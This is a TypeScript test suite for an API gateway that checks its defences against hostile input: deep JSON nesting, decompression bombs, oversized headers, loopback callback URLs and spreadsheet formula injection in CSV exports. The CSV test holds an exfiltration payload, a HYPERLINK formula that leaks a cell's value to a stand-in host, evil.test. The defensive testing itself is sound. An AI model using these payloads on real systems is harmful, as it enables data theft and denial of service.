import { connect } from "node:net";
import { brotliCompressSync, deflateSync, gzipSync } from "node:zlib";
import {
  companyRequest,
  type FakeChatResponder,
  findPassageWith,
  type Harness,
  type ProblemBody,
  problemOf,
  startHarness,
  statedAnswerResponder,
  TEST_API_KEY,
  TEST_COMPANY,
} from "@dossier/testing";
import { afterAll, beforeAll, describe, expect, it } from "vitest";

let harness: Harness;
beforeAll(async () => {
  harness = await startHarness();
});
afterAll(async () => harness?.stop());

function expectProblem(response: Response, status: number): void {
  expect(response.status).toBe(status);
  expect(response.headers.get("content-type")).toMatch(/^application\/problem\+json/);
}

/** A response as read off a raw socket. */
interface RawResponse {
  status: number;
  headers: Record<string, string>;
  body: string;
}

/**
 * Writes `text` on a fresh connection and reads until the gateway closes it. A gateway that never
 * answers fails the test after `timeoutMs` rather than hanging it.
 */
function exchangeRaw(text: string, timeoutMs = 20_000): Promise<RawResponse> {
  const { hostname, port } = new URL(harness.stack.baseUrl);
  return new Promise((resolve, reject) => {
    const socket = connect(Number(port), hostname);
    let received = "";
    const timer = setTimeout(() => {
      socket.destroy();
      reject(new Error(`no answer that ended the connection; received ${JSON.stringify(received.slice(0, 200))}`));
    }, timeoutMs);
    socket.setEncoding("utf8");
    socket.on("data", (chunk: string) => {
      received += chunk;
    });
    // The gateway may reset a connection it refused once its answer is out; the answer is what counts.
    socket.on("error", () => {});
    socket.on("close", () => {
      clearTimeout(timer);
      const [head = "", ...rest] = received.split("\r\n\r\n");
      const [statusLine = "", ...headerLines] = head.split("\r\n");
      const headers: Record<string, string> = {};
      for (const line of headerLines) {
        const colon = line.indexOf(":");
        if (colon > 0) headers[line.slice(0, colon).trim().toLowerCase()] = line.slice(colon + 1).trim();
      }
      resolve({ status: Number(statusLine.split(" ")[1]), headers, body: rest.join("\r\n\r\n") });
    });
    socket.write(text);
  });
}

describe("nesting depth", () => {
  it("refuses a deeply nested batch with 400 while /healthz keeps answering", async () => {
    const depth = 15_000_000;
    const body = `{"items":[${"[".repeat(depth)}${"]".repeat(depth)}]}`;
    const [deep, health] = await Promise.all([
      harness.post("/v1/batches", body),
      fetch(`${harness.stack.baseUrl}/healthz`),
    ]);
    expect(health.status).toBe(200);
    expectProblem(deep, 400);
    const problem = await problemOf(deep);
    expect(problem.code).toBe("REQUEST_TOO_DEEPLY_NESTED");
    expect(problem.detail).toContain("64");
  });

  it("refuses a research body nested past the limit, and counts no brackets inside strings", async () => {
    let nested: unknown = "x";
    for (let level = 0; level < 100; level += 1) nested = [nested];
    const deep = await harness.post("/v1/research/company", { ...companyRequest("Deep?"), context: nested });
    expectProblem(deep, 400);
    expect((await problemOf(deep)).code).toBe("REQUEST_TOO_DEEPLY_NESTED");

    const brackets = await harness.post("/v1/research/company", companyRequest(`Brackets ${"[{".repeat(200)}?`));
    expect(brackets.status).toBe(200);
  });

  it("rejects an unknown top-level field of a batch with 422 naming it", async () => {
    const response = await harness.post("/v1/batches", {
      items: [{ type: "company", request: companyRequest("Envelope?") }],
      callbakUrl: "https://hooks.example.com/dossier",
    });
    expectProblem(response, 422);
    expect((await problemOf(response)).errors).toEqual([
      { path: "callbakUrl", message: "is not a known field (names are case-sensitive)" },
    ]);
  });
});

describe("compressed bodies", () => {
  const bodies = {
    "/v1/research/company": Buffer.from(JSON.stringify(companyRequest("Compressed?"))),
    "/v1/batches": Buffer.from(
      JSON.stringify({ items: [{ type: "company", request: companyRequest("Compressed?") }] }),
    ),
  };
  const paths = Object.keys(bodies) as Array<keyof typeof bodies>;
  const post = (path: string, encoding: string, bytes: Uint8Array) =>
    fetch(`${harness.stack.baseUrl}${path}`, {
      method: "POST",
      headers: { "content-type": "application/json", "content-encoding": encoding, "x-api-key": TEST_API_KEY },
      body: bytes,
    });

  it.each(
    paths.flatMap((path) => [
      [path, "gzip", Buffer.from("this is not gzip at all")],
      [path, "gzip", gzipSync(bodies[path]).subarray(0, 20)],
      [path, "br", Buffer.from("this is not brotli at all")],
      [path, "deflate", Buffer.from("this is not deflate at all")],
    ]) as Array<[string, string, Buffer]>,
  )("%s: a %s body that does not decompress is 400", async (path, encoding, bytes) => {
    const response = await post(path, encoding, bytes);
    expectProblem(response, 400);
    expect((await problemOf(response)).code).toBe("REQUEST_MALFORMED_ENCODING");
  });

  it.each(paths)("%s: an encoding the gateway does not decompress is 415", async (path) => {
    const response = await post(path, "compress", bodies[path]);
    expectProblem(response, 415);
    expect((await problemOf(response)).detail).toContain("gzip, br or deflate");
  });

  it.each(
    paths.flatMap((path) => [
      [path, "gzip", gzipSync(bodies[path])],
      [path, "br", brotliCompressSync(bodies[path])],
      [path, "deflate", deflateSync(bodies[path])],
    ]) as Array<[string, string, Buffer]>,
  )("%s: a %s body that decompresses is read", async (path, encoding, bytes) => {
    const response = await post(path, encoding, bytes);
    expect(response.status).toBe(path === "/v1/batches" ? 202 : 200);
  });

  it("reads a compressed batch that decompresses to many blocks, planned off the event loop", async () => {
    const context = "Notes of the caller about the company. ".repeat(40);
    const items = Array.from({ length: 300 }, (_, index) => ({
      type: "company",
      ref: `row-${index}`,
      request: { ...companyRequest(`Compressed, item ${index}?`), context },
    }));
    const body = Buffer.from(JSON.stringify({ items }));
    expect(body.length).toBeGreaterThan(256 * 1024);
    const response = await post("/v1/batches", "gzip", gzipSync(body));
    expect(response.status).toBe(202);
    // Blocks joined out of order or with a gap would not parse as JSON.
    const batch = (await response.json()) as { id: string; total: number };
    expect(batch.total).toBe(300);
    await fetch(`${harness.stack.baseUrl}/v1/batches/${batch.id}/cancel`, {
      method: "POST",
      headers: { "x-api-key": TEST_API_KEY },
    });
  });
});

describe("malformed paths", () => {
  const secret = "jane.doe%40private-mail.test";

  it.each(["/v1/jobs/%ZZ", "/v1/batches/%ZZ", "/v1/batches/%ZZ/results"])(
    "%s is 400 with a key and without, and no log line holds the path",
    async (template) => {
      const path = template.replace("%ZZ", `${secret}%ZZ`);
      const withAndWithoutKey: Array<Record<string, string>> = [{ "x-api-key": TEST_API_KEY }, {}];
      for (const headers of withAndWithoutKey) {
        const response = await fetch(`${harness.stack.baseUrl}${path}`, { headers });
        expectProblem(response, 400);
        expect((await problemOf(response)).code).toBe("REQUEST_MALFORMED_PATH");
      }
      const text = harness.stack.logLines().join("\n");
      expect(text).not.toContain("jane.doe");
      expect(text).not.toContain("private-mail");
      expect(text).not.toContain("%ZZ");
    },
  );
});

describe("oversized requests", () => {
  it.each(["/v1/research/company", "/v1/batches"])(
    "%s answers a declared Content-Length over the limit with 413 from the headers alone",
    async (path) => {
      const response = await exchangeRaw(
        `POST ${path} HTTP/1.1\r\nHost: dossier.test\r\nContent-Type: application/json\r\nx-api-key: ${TEST_API_KEY}\r\nContent-Length: 2147483648\r\n\r\n`,
      );
      expect(response.status).toBe(413);
      expect(response.headers["content-type"]).toMatch(/^application\/problem\+json/);
      expect(response.headers.connection).toBe("close");
      expect((JSON.parse(response.body) as ProblemBody).code).toBe("REQUEST_TOO_LARGE");
    },
  );

  it("answers a batch sent in chunks, without a Content-Length, with 413 once it passes the limit", async () => {
    const megabyte = new Uint8Array(1_048_576).fill(0x20);
    let sent = 0;
    const body = new ReadableStream<Uint8Array>({
      pull(controller) {
        if (sent++ < 33) controller.enqueue(megabyte);
        else controller.close();
      },
    });
    const response = await fetch(`${harness.stack.baseUrl}/v1/batches`, {
      method: "POST",
      headers: { "content-type": "application/json", "x-api-key": TEST_API_KEY },
      body,
      duplex: "half",
    } as RequestInit);
    expectProblem(response, 413);
    expect((await problemOf(response)).code).toBe("REQUEST_TOO_LARGE");
  });

  it("answers a compressed batch that decompresses past the limit with 413", async () => {
    const response = await fetch(`${harness.stack.baseUrl}/v1/batches`, {
      method: "POST",
      headers: { "content-type": "application/json", "content-encoding": "gzip", "x-api-key": TEST_API_KEY },
      body: gzipSync(Buffer.alloc(40 * 1_048_576, 0x20)),
    });
    expectProblem(response, 413);
    expect((await problemOf(response)).code).toBe("REQUEST_TOO_LARGE");
  });
});

describe("oversized headers", () => {
  it("answers a 20 KB request header with a problem+json 431", async () => {
    const response = await exchangeRaw(
      `GET /healthz HTTP/1.1\r\nHost: dossier.test\r\nX-Padding: ${"a".repeat(20_000)}\r\n\r\n`,
    );
    expect(response.status).toBe(431);
    expect(response.headers["content-type"]).toMatch(/^application\/problem\+json/);
    expect(response.headers.connection).toBe("close");
    expect(response.headers["x-request-id"]).toMatch(/.+/);
    expect(JSON.parse(response.body) as ProblemBody).toMatchObject({
      status: 431,
      code: "REQUEST_HEADERS_TOO_LARGE",
    });
  });
});

describe("callback URLs", () => {
  /** A body of each kind that takes a callback, with `callbackUrl` set. */
  const withCallback: Record<string, (callbackUrl: string) => unknown> = {
    "/v1/batches": (callbackUrl) => ({
      items: [{ type: "company", request: { question: "Callback?", company: TEST_COMPANY } }],
      callbackUrl,
    }),
    "/v1/lists": (callbackUrl) => ({ objective: "companies that make anvils", entityType: "company", callbackUrl }),
    "/v1/watches": (callbackUrl) => ({
      request: { type: "company", request: { question: "Callback?", company: TEST_COMPANY } },
      every: "1d",
      callbackUrl,
    }),
  };

  it.each(Object.keys(withCallback))(
    "%s refuses a callback host that resolves to loopback without saying what it resolves to, in the words a host that does not resolve gets",
    async (path) => {
      const messages: string[] = [];
      for (const callbackUrl of [
        "http://localhost:9/hook",
        "http://no-such-host.invalid/hook",
        "http://127.0.0.1:9/hook",
      ]) {
        const response = await harness.post(path, withCallback[path]!(callbackUrl));
        expectProblem(response, 422);
        const problem = await problemOf(response);
        expect(problem.errors?.map((error) => error.path)).toEqual(["callbackUrl"]);
        const text = JSON.stringify(problem);
        for (const leak of ["127.0.0.1", "::1", "loopback", "resolves to it", "ENOTFOUND", "localhost", "no-such-host"])
          expect(text, callbackUrl).not.toContain(leak);
        messages.push(problem.errors![0]!.message);
      }
      expect(new Set(messages).size).toBe(1);
      expect(messages[0]).toContain("not a public address");
    },
  );
});
describe("CSV results", () => {
  it("neutralizes cells a spreadsheet would run as formulas, and keep negative numbers and E.164 phones", async () => {
    // A page whose own words begin with formulas and a negative number: answers and details quoted from it.
    const quoting =
      (answer: unknown, ...quotes: string[]): FakeChatResponder =>
      (request) => {
        const prompt = request.messages.map((message) => message.content).join("\n");
        const citations = quotes.flatMap((quote) => {
          const passage = findPassageWith(prompt, quote);
          return passage ? [{ passage: passage.id, quote }] : [];
        });
        return { kind: "json", value: { answer, citations, explanation: quotes[0], confidence: 0.8 } };
      };
    harness.model.setResponder((request) =>
      request.userText.includes("CSV: formula?")
        ? quoting(
            '=HYPERLINK("http://evil.test/?leak="&A1,"details")',
            '=HYPERLINK("http://evil.test/?leak="&A1,"details") is the export formula of the Northwind Robotics ledger.',
          )(request)
        : quoting(-12, "The Northwind Robotics ledger balance is -12 units.")(request),
    );
    try {
      const accepted = await harness.post("/v1/batches", {
        items: [
          {
            type: "company",
            ref: "=1+2",
            request: companyRequest("CSV: formula? Which ledger formula does LedgerLeaks show?"),
          },
          {
            type: "company",
            ref: "+4930123456",
            request: companyRequest("CSV: balance? What is the ledger balance LedgerLeaks shows?", {
              responseType: "NUMBER",
            }),
          },
        ],
      });
      expect(accepted.status).toBe(202);
      const location = accepted.headers.get("location")!;
      const headers = { "x-api-key": TEST_API_KEY };
      for (let attempt = 0; attempt < 300; attempt += 1) {
        const status = (await (await fetch(`${harness.stack.baseUrl}${location}`, { headers })).json()) as {
          status: string;
        };
        if (status.status === "done") break;
        await new Promise((resolve) => setTimeout(resolve, 100));
      }
      const csv = await fetch(`${harness.stack.baseUrl}${location}/results?format=csv`, { headers });
      expect(csv.status).toBe(200);
      const rows = (await csv.text()).trim().split("\r\n");
      expect(rows[1]).toMatch(
        /^0,'=1\+2,200,"'=HYPERLINK\(""http:\/\/evil\.test\/\?leak=""&A1,""details""\)",,0\.\d+,"'=HYPERLINK\(""http:\/\/evil\.test\/\?leak=""&A1,""details""\) is the export formula of the Northwind Robotics ledger\.",/,
      );
      expect(rows[2]).toMatch(/^1,\+4930123456,200,-12,-12,0\.\d+,/);
    } finally {
      harness.model.setResponder(statedAnswerResponder);
    }
  });
});
